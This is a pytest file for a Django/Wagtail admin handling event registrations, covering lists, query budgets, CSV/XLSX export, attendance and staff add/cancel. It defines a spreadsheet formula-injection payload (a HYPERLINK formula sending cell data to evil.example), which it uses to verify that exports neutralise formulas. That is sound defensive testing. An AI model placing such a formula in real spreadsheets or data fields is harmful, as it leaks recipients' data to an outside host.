"""Aanmeldingen in the Wagtail admin: the events list, one event's list, export, attendance,
staff adding and cancelling someone (as Ledenadministratie; who may: test_admin_access.py)."""

import csv
import io
from unittest import mock

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from members.registrations import notifications
from members.registrations.models import Registration
from tests.factories import UserFactory

from .admin_support import (  # noqa: F401 (fixtures)
    LEDENADMINISTRATIE,
    REDACTIE,
    Status,
    agenda,
    client_for,
    event,
    groups,
    person,
    registration,
)

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


@pytest.fixture
def clerk(agenda, groups):  # noqa: F811 (fixtures from admin_support)
    return person(LEDENADMINISTRATIE)


@pytest.fixture
def client(clerk):
    return client_for(clerk)


def text(response):
    return response.content.decode()


def squashed(response):
    return "".join(text(response).split())


def test_events_list_upcoming_first_with_counts(client):
    later = event("Leergang voorzitters", days=30, capacity=10)
    soon = event("Sparsessie jaarplan", days=3, capacity=2)
    past = event("Terugkomdag", days=-10)
    for status in (Status.CONFIRMED, Status.CONFIRMED, Status.WAITING, Status.CANCELLED):
        registration(soon, status)
    registration(later, Status.CONFIRMED)
    registration(past, Status.CONFIRMED)
    html = text(client.get(reverse("registration_admin:index")))
    assert html.index("Sparsessie jaarplan") < html.index("Leergang voorzitters") < html.index(
        "Terugkomdag")
    assert reverse("registration_admin:event", args=[soon.pk]) in html
    # soon: 2 confirmed, 1 waiting, 1 cancelled, capacity 2, 0 left; later: 1 of 10, 9 left.
    row = squashed(client.get(reverse("registration_admin:index"), {"q": "jaarplan"}))
    assert "<td>2</td><td>1</td><td>1</td><td>2</td><td>0</td>" in row.replace(
        'class=""', "")
    upcoming = text(client.get(reverse("registration_admin:index"), {"period": "upcoming"}))
    assert "Leergang voorzitters" in upcoming and "Terugkomdag" not in upcoming
    past_only = text(client.get(reverse("registration_admin:index"), {"period": "past"}))
    assert "Terugkomdag" in past_only and "Sparsessie jaarplan" not in past_only


def test_events_list_queries_stay_flat(client, django_assert_max_num_queries):
    from django.contrib.auth import get_user_model

    first = event("Eerste", days=5, capacity=600)
    url = reverse("registration_admin:index")
    client.get(url)
    with django_assert_max_num_queries(30) as few:
        client.get(url)
    budget = len(few.captured_queries)  # now: the next request resets the query log
    User = get_user_model()
    users = User.objects.bulk_create([User(email=f"deelnemer{i}@example.nl")
                                      for i in range(500)])
    others = [event(f"Bijeenkomst {i}", days=6 + i) for i in range(20)]
    Registration.objects.bulk_create([
        Registration(event=first if i % 2 else others[i % 20], user=u,
                     status=Status.CONFIRMED if i % 3 else Status.WAITING)
        for i, u in enumerate(users)
    ])
    # Publishing the events purged what the site keeps between requests (the site and its
    # home page): the first request after it fetches them again, as the first one above did.
    client.get(url)
    with django_assert_max_num_queries(budget):
        response = client.get(url)
    assert response.status_code == 200 and "Bijeenkomst 19" in text(response)


def test_event_page_lists_registrations_with_their_details(client):
    meeting = event(capacity=1)
    anna = UserFactory(first_name="Anna", last_name="Jansen", organisation="Raad De Linde")
    piet = UserFactory(first_name="Piet", last_name="Bakker", organisation="")
    kees = UserFactory(first_name="Kees", last_name="Smit")
    registration(meeting, user=anna, answer="Hoe betrekken wij de achterban?", attended=True)
    registration(meeting, Status.WAITING, user=piet)
    registration(meeting, Status.CANCELLED, user=kees)
    url = reverse("registration_admin:event", args=[meeting.pk])
    html = text(client.get(url))
    for expected in ("Anna Jansen", anna.email, "Raad De Linde", "Hoe betrekken wij de "
                     "achterban?", "Piet Bakker", "Op de wachtlijst (plaats 1)", "Kees Smit",
                     "Afgemeld", "Bevestigd (1)", "Wachtlijst (1)", "Afgemeld (1)"):
        assert expected in html, expected
    assert html.index("Anna Jansen") < html.index("Piet Bakker") < html.index("Kees Smit")
    waiting = text(client.get(url, {"status": "waiting"}))
    assert "Piet Bakker" in waiting and "Anna Jansen" not in waiting


def test_event_page_queries_stay_flat(client, django_assert_max_num_queries):
    from django.contrib.auth import get_user_model

    meeting = event(capacity=250)
    url = reverse("registration_admin:event", args=[meeting.pk])
    registration(meeting)
    client.get(url)
    with django_assert_max_num_queries(30) as few:
        client.get(url)
    User = get_user_model()
    users = User.objects.bulk_create([User(email=f"p{i}@example.nl") for i in range(500)])
    Registration.objects.bulk_create([
        Registration(event=meeting, user=u, status=Status.CONFIRMED if i < 250
                     else Status.WAITING) for i, u in enumerate(users)])
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert "p499@example.nl" in text(client.get(url))


def export(client, meeting, fmt, **params):
    response = client.get(reverse("registration_admin:export", args=[meeting.pk]),
                          {"format": fmt, **params})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_export_holds_the_list_and_no_formulas(client):
    meeting = event(slug="sparsessie-jaarplan")
    user = UserFactory(first_name="Anna", last_name="Jansen", organisation="@Raad")
    registration(meeting, user=user, answer=ATTACK, attended=False)
    registration(meeting, Status.WAITING, user=UserFactory(first_name="-Piet"))
    response = client.get(reverse("registration_admin:export", args=[meeting.pk]),
                          {"format": "csv"})
    assert "aanmeldingen-sparsessie-jaarplan.csv" in response["Content-Disposition"]
    body = export(client, meeting, "csv")
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark"
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["Naam", "E-mailadres", "Organisatie", "Status",
                       "Plaats op de wachtlijst", "Ingebracht thema of vraag", "Aangemeld op",
                       "Aanwezig"]
    anna = next(row for row in rows if user.email in row)
    assert anna[0] == "Anna Jansen" and anna[2] == "'@Raad" and anna[5] == "'" + ATTACK
    assert anna[3] == "Bevestigd" and anna[7] == "nee"
    # Amsterdam wall-clock time to the minute, not UTC with microseconds.
    registered = timezone.localtime(Registration.objects.get(user=user).created_at)
    assert anna[6] == f"{registered:%Y-%m-%d %H:%M}:00"
    piet = next(row for row in rows[1:] if row is not anna)
    assert piet[0].startswith("'-Piet") and piet[4] == "1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    waiting_only = list(csv.reader(io.StringIO(
        export(client, meeting, "csv", status="waiting").decode())))
    assert len(waiting_only) == 2


def test_xlsx_export_keeps_text_as_text(client):
    meeting = event()
    registration(meeting, answer=ATTACK)
    sheet = load_workbook(io.BytesIO(export(client, meeting, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    attack = next(cell for cell in cells if cell.value == ATTACK)
    assert attack.data_type == "s"


def test_attendance_per_row_and_all_confirmed(client):
    meeting = event()
    came, absent, unknown = (registration(meeting) for _ in range(3))
    waiting = registration(meeting, Status.WAITING)
    response = client.post(reverse("registration_admin:attendance", args=[meeting.pk]), {
        f"attended-{came.pk}": "yes", f"attended-{absent.pk}": "no",
        f"attended-{unknown.pk}": "", f"attended-{waiting.pk}": "yes",
        "attended-99999999999999999999": "yes",
    })
    assert response.status_code == 302
    values = {r.pk: r.attended for r in Registration.objects.all()}
    assert values == {came.pk: True, absent.pk: False, unknown.pk: None, waiting.pk: None}
    later = registration(meeting)
    # "All": the choices on the screen first (came becomes a no), then every unknown one yes.
    client.post(reverse("registration_admin:attendance", args=[meeting.pk]), {
        f"attended-{came.pk}": "no", f"attended-{unknown.pk}": "", "mark_all": "1"})
    values = {r.pk: r.attended for r in Registration.objects.all()}
    # The explicit "no"s stay; the unknown ones become yes; the waiting one is not attending.
    assert values == {came.pk: False, absent.pk: False, unknown.pk: True, later.pk: True,
                      waiting.pk: None}


def test_staff_add_by_email_and_over_capacity_on_purpose(client, clerk):
    meeting = event(capacity=1)
    registration(meeting)
    url = reverse("registration_admin:add", args=[meeting.pk])
    page = text(client.get(url))
    assert "Toevoegen gaat boven de capaciteit" in page
    response = client.post(url, {"email": "niemand@example.nl"})
    assert "Er is geen account met dit e-mailadres." in text(response)
    assert 'value="niemand@example.nl"' in text(response)
    newcomer = UserFactory(email="Nieuw@Example.nl", verified=False)
    with mock.patch.object(notifications, "registered") as registered:
        response = client.post(url, {"email": "nieuw@example.nl"})
        assert "Bevestig dat u deze persoon boven de capaciteit aanmeldt." in text(response)
        assert not registered.called
        response = client.post(url, {"email": "nieuw@example.nl", "answer": "Werkplan",
                                     "over_capacity": "on"}, follow=True)
    added = Registration.objects.get(user=newcomer)
    assert (added.status, added.added_by, added.answer) == (Status.CONFIRMED, clerk, "Werkplan")
    registered.assert_called_once_with(added)
    html = text(response)
    assert "meer bevestigde deelnemers dan de capaciteit" in html
    again = client.post(url, {"email": newcomer.email, "over_capacity": "on"})
    assert "al aangemeld" in text(again)


def test_cancel_asks_first_then_cancels_with_the_mail_and_promotes(client, clerk):
    meeting = event(capacity=1)
    seat = registration(meeting, user=UserFactory(first_name="Anna", last_name="Jansen"))
    waiting = registration(meeting, Status.WAITING)
    url = reverse("registration_admin:cancel", args=[seat.pk])
    page = text(client.get(url))
    assert "Aanmelding van Anna Jansen" in page and "Ja, aanmelding annuleren" in page
    seat.refresh_from_db()
    assert seat.status == Status.CONFIRMED
    with mock.patch.object(notifications, "cancelled") as cancelled, \
            mock.patch.object(notifications, "promoted") as promoted:
        response = client.post(url, follow=True)
    seat.refresh_from_db()
    waiting.refresh_from_db()
    assert (seat.status, seat.cancelled_by) == (Status.CANCELLED, clerk)
    cancelled.assert_called_once()
    assert cancelled.call_args.kwargs == {"by_staff": True}
    promoted.assert_called_once()
    assert waiting.status == Status.CONFIRMED
    assert "Anna Jansen" in text(response) and "wachtlijst doorgeschoven" in text(response)
    assert "al afgemeld" in text(client.get(url))


def test_edit_view_of_an_event_links_to_its_registrations(client):
    client = client_for(person(REDACTIE))  # the Ledenadministratie does not edit pages
    meeting = event()
    registration(meeting)
    registration(meeting)
    registration(meeting, Status.WAITING)
    html = text(client.get(reverse("wagtailadmin_pages:edit", args=[meeting.pk])))
    assert "Aanmeldingen (2)" in html
    assert reverse("registration_admin:event", args=[meeting.pk]) in html
